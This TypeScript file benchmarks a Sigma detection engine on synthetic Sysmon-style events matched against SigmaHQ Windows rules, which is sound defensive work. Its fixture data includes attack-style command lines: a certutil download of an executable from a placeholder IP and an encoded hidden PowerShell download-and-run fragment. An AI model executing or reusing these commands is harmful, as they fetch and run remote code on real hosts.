/**
 * Sigma engine benchmark: events per second per core over a Sysmon-like NDJSON corpus, with
 * 100 SigmaHQ Windows rules and with every SigmaHQ Windows rule, side by side with plain
 * `JSON.parse` of the same lines in the same run; and the compile time of all of SigmaHQ.
 *
 *   npm run build && node dist/bench/sigma.js [--events 50000] [--rounds 3] [--corpora DIR]
 *                                            [--write-corpus FILE]   (write the NDJSON and stop)
 *   (or without building: node --import tsx bench/sigma.ts ...)
 *
 * "Per core" divides by this process's CPU time (user + system), so the figures do not depend
 * on how busy the machine's other cores are. Three loops run chunk by chunk, one after the
 * other on the same lines, so that all three see the same machine conditions: JSON.parse only,
 * JSON.parse + match, and match only on events parsed beforehand (the pipeline's case: codecs
 * hand the engine parsed records). The best round is reported. The corpus is generated from a
 * fixed seed (evtx_dump-shaped Sysmon events: process creation, network, image load, file,
 * registry, DNS, process access), with a small share of events that rules fire on.
 */
import { existsSync, writeFileSync } from 'node:fs';
import { availableParallelism, loadavg } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { parseArgs } from 'node:util';
import { fileURLToPath } from 'node:url';
import { compileSigmaBundle, loadPlaceholders, loadSigmaRules } from '../src/detect/sigma/index.js';
import type { SigmaRuleSet } from '../src/detect/sigma/index.js';
import { seededFloats } from '../src/demo/prng.js';

const { values } = parseArgs({
  options: { events: { type: 'string', default: '50000' }, rounds: { type: 'string', default: '3' }, corpora: { type: 'string' }, 'write-corpus': { type: 'string' } },
});
const N = Number(values.events);
const ROUNDS = Number(values.rounds);
/** The project root: the nearest folder above this file with a package.json (dist/bench or bench). */
function projectRoot(): string {
  let dir = dirname(fileURLToPath(import.meta.url));
  while (!existsSync(join(dir, 'package.json')) && dirname(dir) !== dir) dir = dirname(dir);
  return dir;
}
const root = projectRoot();
const corpora = values.corpora ?? process.env.VIGIL_CORPORA ?? resolve(root, '..', 'shared', 'corpora');


const IMAGES = ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\conhost.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\taskhostw.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\System32\\SearchIndexer.exe'];
const SUSPICIOUS = [
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['C:\\Windows\\System32\\reg.exe', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v CurrentBuildNumber'],
];
const USERS = ['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup', 'NT AUTHORITY\\NETWORK SERVICE'];
const DLLS = ['C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\advapi32.dll', 'C:\\Windows\\System32\\crypt32.dll', 'C:\\Windows\\System32\\wininet.dll'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'update.example.org', 'cdn.office.net', 'telemetry.example.com'];

function sysmonLine(r: () => number, i: number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
  const hex = (n: number): string => Array.from({ length: n }, () => '0123456789ABCDEF'[Math.floor(r() * 16)]).join('');
  const guid = (): string => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
  const time = new Date(Date.UTC(2024, 0, 1) + i * 250).toISOString();
  const x = r();
  let eventId: number;
  let data: Record<string, unknown>;
  const image = pick(IMAGES);
  const base = { RuleName: '-', UtcTime: time.replace('T', ' ').replace('Z', ''), ProcessGuid: guid(), ProcessId: Math.floor(r() * 20000), Image: image, User: pick(USERS) };
  if (x < 0.4) {
    eventId = 1;
    const [img, cmd] = r() < 0.01 ? pick(SUSPICIOUS) : [image, `"${image}" --type=renderer --field-trial-handle=${hex(8)} --lang=en-US /prefetch:${Math.floor(r() * 9)}`];
    data = { ...base, Image: img, FileVersion: '10.0.19041.1', Description: 'Windows host process', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: img.split('\\').pop(), CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\system32\\', LogonGuid: guid(), LogonId: `0x${hex(6)}`, TerminalSessionId: 1, IntegrityLevel: 'Medium', Hashes: `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`, ParentProcessGuid: guid(), ParentProcessId: Math.floor(r() * 20000), ParentImage: pick(IMAGES), ParentCommandLine: `"${pick(IMAGES)}"`, ParentUser: pick(USERS) };
  } else if (x < 0.55) {
    eventId = 3;
    data = { ...base, Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: `10.0.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`, SourceHostname: 'pc1.corp.local', SourcePort: 49152 + Math.floor(r() * 10000), DestinationIsIpv6: 'false', DestinationIp: `203.0.113.${Math.floor(r() * 255)}`, DestinationHostname: pick(DOMAINS), DestinationPort: pick([443, 80, 53, 445, 3389]), DestinationPortName: 'https' };
  } else if (x < 0.7) {
    eventId = 7;
    data = { ...base, ImageLoaded: pick(DLLS), FileVersion: '10.0.19041.1', Description: 'Windows NT BASE API Client DLL', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: 'kernel32.dll', Hashes: `SHA256=${hex(64)}`, Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid' };
  } else if (x < 0.8) {
    eventId = 11;
    data = { ...base, TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\${hex(8)}.tmp`, CreationUtcTime: base.UtcTime };
  } else if (x < 0.9) {
    eventId = r() < 0.5 ? 12 : 13;
    data = { ...base, EventType: eventId === 12 ? 'CreateKey' : 'SetValue', TargetObject: `HKU\\S-1-5-21-${hex(8)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\${hex(6)}`, Details: eventId === 13 ? `DWORD (0x0000000${Math.floor(r() * 9)})` : undefined };
  } else if (x < 0.95) {
    eventId = 22;
    data = { ...base, QueryName: pick(DOMAINS), QueryStatus: '0', QueryResults: `::ffff:203.0.113.${Math.floor(r() * 255)};` };
  } else {
    eventId = 10;
    data = { RuleName: '-', UtcTime: base.UtcTime, SourceProcessGUID: guid(), SourceProcessId: 4321, SourceThreadId: 77, SourceImage: image, TargetProcessGUID: guid(), TargetProcessId: 700, TargetImage: 'C:\\Windows\\System32\\svchost.exe', GrantedAccess: '0x1000', CallTrace: `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e`, SourceUser: pick(USERS), TargetUser: 'NT AUTHORITY\\SYSTEM' };
  }
  const event = {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: eventId, Version: 5, Level: 4, Task: eventId, Opcode: 0, Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: time } }, EventRecordID: 1000 + i, Correlation: null,
        Execution: { '#attributes': { ProcessID: 3308, ThreadID: 4008 } }, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'pc1.corp.local',
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  };
  return JSON.stringify(event);
}

function cpuMs(): number {
  const c = process.cpuUsage();
  return (c.user + c.system) / 1000;
}

interface Row {
  name: string;
  rules: number;
  /** Events per CPU second: JSON.parse only, JSON.parse + match, match only (events parsed before). */
  parseEps: number;
  parseMatchEps: number;
  matchEps: number;
  /** Milliseconds of CPU to build the routes (closures, literal indexes) of the corpus's event classes. */
  routesMs: number;
  detections: number;
}

function measure(name: string, set: SigmaRuleSet, lines: string[], placeholders?: Map<string, string[]>): Row {
  const { bundle } = compileSigmaBundle(set, placeholders ? { placeholders } : {});
  // Routes are built on the first event of each class; timed apart, then the JIT settles.
  const t0 = cpuMs();
  for (let i = 0; i < Math.min(lines.length, 200); i++) bundle.match({ native: JSON.parse(lines[i]) as Record<string, unknown> });
  const routesMs = cpuMs() - t0;
  for (let i = 0; i < Math.min(lines.length, 5000); i++) bundle.match({ native: JSON.parse(lines[i]) as Record<string, unknown> });
  let best: Row | undefined;
  // The three loops alternate every CHUNK lines, so they see the same machine conditions (other
  // processes on a shared machine shift absolute figures, much less their ratios).
  const CHUNK = 5000;
  for (let round = 0; round < ROUNDS; round++) {
    let parseMs = 0;
    let parseMatchMs = 0;
    let matchMs = 0;
    let sink = 0;
    let detections = 0;
    for (let from = 0; from < lines.length; from += CHUNK) {
      const to = Math.min(lines.length, from + CHUNK);
      let t = cpuMs();
      for (let i = from; i < to; i++) sink += (JSON.parse(lines[i]) as { Event: object }).Event ? 1 : 0;
      parseMs += cpuMs() - t;
      t = cpuMs();
      for (let i = from; i < to; i++) detections += bundle.match({ native: JSON.parse(lines[i]) as Record<string, unknown> }).length;
      parseMatchMs += cpuMs() - t;
      const parsed = lines.slice(from, to).map((l) => ({ native: JSON.parse(l) as Record<string, unknown> }));
      t = cpuMs();
      for (let i = 0; i < parsed.length; i++) sink += bundle.match(parsed[i]).length;
      matchMs += cpuMs() - t;
    }
    if (sink < lines.length) throw new Error('baseline lost lines');
    const eps = (ms: number): number => (lines.length / ms) * 1000;
    const row: Row = { name, rules: bundle.rules.length, parseEps: eps(parseMs), parseMatchEps: eps(parseMatchMs), matchEps: eps(matchMs), routesMs, detections };
    if (!best || row.parseMatchEps > best.parseMatchEps) best = row;
  }
  return best!;
}

function windowsOnly(set: SigmaRuleSet): SigmaRuleSet {
  return { ...set, rules: set.rules.filter((r) => r.logsource.product === 'windows') };
}

if (values['write-corpus']) {
  const gen = seededFloats(7);
  writeFileSync(values['write-corpus'], Array.from({ length: N }, (_, i) => sysmonLine(gen, i)).join('\n') + '\n');
  process.exit(0);
}
const rulesRoot = join(corpora, 'sigmahq-rules');
if (!existsSync(rulesRoot)) {
  console.log(`sigmahq-rules not found under ${corpora} (set VIGIL_CORPORA or --corpora): nothing to measure`);
  process.exit(0);
}
const r = seededFloats(7);
const lines = Array.from({ length: N }, (_, i) => sysmonLine(r, i));
const avgBytes = lines.reduce((s, l) => s + l.length, 0) / lines.length;
const placeholderFile = resolve(root, 'src', 'detect', 'sigma', 'testdata', 'placeholders.yml');
const placeholders = existsSync(placeholderFile) ? loadPlaceholders([placeholderFile]) : undefined;

// Compile time of all of SigmaHQ (every rules* folder), wall and CPU, best of the rounds.
const dirs = ['rules', 'rules-emerging-threats', 'rules-threat-hunting', 'rules-compliance', 'rules-dfir', 'rules-placeholder'].map((d) => join(rulesRoot, d)).filter(existsSync);
let compile = { loadWall: Infinity, loadCpu: 0, compileWall: Infinity, compileCpu: 0, rules: 0 };
let allSet: SigmaRuleSet | undefined;
for (let round = 0; round < ROUNDS; round++) {
  const c0 = cpuMs();
  const t0 = performance.now();
  const set = loadSigmaRules(dirs);
  const c1 = cpuMs();
  const t1 = performance.now();
  const res = compileSigmaBundle(set, placeholders ? { placeholders } : {});
  const c2 = cpuMs();
  const t2 = performance.now();
  if (t2 - t0 < compile.loadWall + compile.compileWall) compile = { loadWall: t1 - t0, loadCpu: c1 - c0, compileWall: t2 - t1, compileCpu: c2 - c1, rules: res.bundle.rules.length + res.bundle.correlations.length };
  allSet = set;
}

const windows = windowsOnly(allSet!);
// 100 rules: every k-th Windows rule in file order, so all Windows categories are represented.
const step = Math.max(1, Math.floor(windows.rules.length / 100));
const hundred: SigmaRuleSet = { ...windows, rules: windows.rules.filter((_, i) => i % step === 0).slice(0, 100) };

const rows = [measure('100 SigmaHQ Windows rules', hundred, lines, placeholders), measure('all SigmaHQ Windows rules', windows, lines, placeholders)];

const fmt = (n: number): string => Math.round(n).toLocaleString('en-US');
console.log(`Sigma engine benchmark — ${N} Sysmon-like evtx_dump NDJSON lines (avg ${avgBytes.toFixed(0)} bytes), best of ${ROUNDS} rounds, per core (CPU time); load average ${loadavg().map((x) => x.toFixed(2)).join(' ')} on ${availableParallelism()} CPUs`);
console.log('');
console.log('| rule set | rules | JSON.parse only (events/s) | parse + match (events/s) | parse + match / parse | match only (events/s) | match (µs/event) | routes built (ms CPU) | detections |');
console.log('|---|---|---|---|---|---|---|---|---|');
for (const row of rows) {
  console.log(`| ${row.name} | ${row.rules} | ${fmt(row.parseEps)} | ${fmt(row.parseMatchEps)} | ${(row.parseMatchEps / row.parseEps).toFixed(2)} | ${fmt(row.matchEps)} | ${(1e6 / row.matchEps).toFixed(2)} | ${row.routesMs.toFixed(0)} | ${row.detections} |`);
}
console.log('');
console.log(`Compile all of SigmaHQ (${compile.rules} rules and correlations from ${dirs.length} folders): load (read + YAML + model) ${compile.loadWall.toFixed(0)} ms wall / ${compile.loadCpu.toFixed(0)} ms CPU, compile ${compile.compileWall.toFixed(0)} ms wall / ${compile.compileCpu.toFixed(0)} ms CPU, total ${(compile.loadWall + compile.compileWall).toFixed(0)} ms wall / ${(compile.loadCpu + compile.compileCpu).toFixed(0)} ms CPU`);
